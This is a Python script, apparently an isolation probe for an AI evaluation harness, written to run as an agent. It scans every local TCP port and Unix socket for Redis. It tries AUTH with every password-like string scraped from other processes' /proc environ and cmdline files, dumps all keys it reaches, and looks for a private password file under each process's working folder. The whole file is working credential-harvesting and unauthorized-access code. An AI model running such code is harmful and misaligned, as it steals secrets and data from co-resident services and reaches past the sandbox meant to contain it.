"""An agent hunting for the store: every listening TCP port on loopback and every Unix
socket this machine has, spoken to as Redis, without a password and with every
password-looking word of every /proc/*/environ and /proc/*/cmdline it can read; then
every key of every database it got into. Run as `python3 store_hunter.py OUT.json`.

A socket it may not connect to is listed as `denied`. Also, apart (`private_files`):
the embedded Redis's password file, looked for under every process's working folder,
which only its owner (or root) can read.

Standard library only: it runs as the agent, with the agent's python3.
"""

from __future__ import annotations

import glob
import json
import os
import re
import socket
import sys
from pathlib import Path

WORD = re.compile(rb"[A-Za-z0-9_\-.~%]{12,128}")


def listening_ports() -> set[int]:
    ports = set()
    for table in ("/proc/net/tcp", "/proc/net/tcp6"):
        try:
            lines = Path(table).read_text().splitlines()[1:]
        except OSError:
            continue
        for line in lines:
            fields = line.split()
            if fields[3] == "0A":  # LISTEN
                ports.add(int(fields[1].rsplit(":", 1)[1], 16))
    return ports


def unix_sockets() -> set[str]:
    paths = set()
    for line in Path("/proc/net/unix").read_text().splitlines()[1:]:
        fields = line.split()
        if len(fields) >= 8 and fields[7].startswith("/"):
            paths.add(fields[7])
    return paths


def candidates() -> set[str]:
    words: set[str] = set()
    for path in glob.glob("/proc/[0-9]*/environ") + glob.glob("/proc/[0-9]*/cmdline"):
        try:
            data = Path(path).read_bytes()
        except OSError:
            continue
        for word in WORD.findall(data):
            words.add(word.decode())
            words.add(word.decode().replace("%40", "@"))
    return words


def command(sock: socket.socket, *args: str) -> bytes:
    sock.sendall(
        b"".join(
            [f"*{len(args)}\r\n".encode()]
            + [f"${len(a.encode())}\r\n".encode() + a.encode() + b"\r\n" for a in args]
        )
    )
    data = b""
    while True:
        chunk = sock.recv(1 << 20)
        if not chunk:
            return data
        data += chunk
        if _complete(data):
            return data


def _complete(data: bytes) -> bool:
    if data[:1] in (b"+", b"-", b":"):
        return data.endswith(b"\r\n")
    if data[:1] == b"*":  # KEYS: an array of bulk strings
        head, _, rest = data.partition(b"\r\n")
        count = int(head[1:])
        return count <= 0 or rest.count(b"\r\n") >= 2 * count
    return data.endswith(b"\r\n")


def keys_of(sock: socket.socket) -> list[str]:
    found = []
    for db in range(16):
        if not command(sock, "SELECT", str(db)).startswith(b"+OK"):
            break
        reply = command(sock, "KEYS", "*").split(b"\r\n")
        found += [f"db{db}:{k.decode(errors='replace')}" for k in reply[2::2] if k]
    return found


def probe(address: tuple[str, int] | str, family: int, words: set[str]) -> dict[str, object] | None:
    def connect() -> socket.socket:
        sock = socket.socket(family, socket.SOCK_STREAM)
        sock.settimeout(1.0)
        sock.connect(address)
        return sock

    try:
        sock = connect()
        hello = command(sock, "PING")
    except PermissionError:  # a socket this user may not connect to (its folder's mode)
        return {"auth": "denied", "keys": []}
    except OSError:
        return None
    if hello.startswith(b"+PONG"):
        return {"auth": "none", "keys": keys_of(sock)}
    if not hello.startswith(b"-NOAUTH"):
        return None  # not a Redis
    for word in sorted(words):
        try:
            if command(sock, "AUTH", word).startswith(b"+OK"):
                return {"auth": "a word of /proc", "keys": keys_of(sock)}
        except OSError:
            sock = connect()
    return {"auth": "refused", "keys": []}


def main() -> None:
    words = candidates()
    reached: dict[str, object] = {}
    for port in sorted(listening_ports()):
        found = probe(("127.0.0.1", port), socket.AF_INET, words)
        if found is not None:
            reached[f"tcp:{port}"] = found
    for path in sorted(unix_sockets()):
        found = probe(path, socket.AF_UNIX, words)
        if found is not None:
            reached[f"unix:{path}"] = found
    private = {}
    for path in glob.glob("/proc/[0-9]*/cwd/.evalfleet/private/password"):
        try:
            private[path] = Path(path).read_text().strip()
        except OSError:
            continue
    with open(sys.argv[1], "w") as out:
        json.dump(
            {
                "euid": os.geteuid(),
                "words": len(words),
                "reached": reached,
                "private_files": sorted(private),
            },
            out,
        )


if __name__ == "__main__":
    main()
